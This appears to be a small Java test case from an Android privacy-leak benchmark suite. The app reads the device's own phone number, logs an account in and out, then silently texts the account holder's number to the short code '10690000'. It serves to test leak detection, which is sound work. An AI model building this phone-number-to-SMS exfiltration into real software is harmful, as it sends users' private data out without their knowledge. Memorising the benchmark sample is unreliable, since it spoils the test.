package cn.privlens.suite.account_told_after_logout;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Account.get().login(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        Account.get().logout();
        tell();
        Log.i("suite", "visits " + Account.get().visits());
    }

    private void tell() {
        SmsManager.getDefault().sendTextMessage("10690000", null, Account.get().holder(), null, null);
    }
}
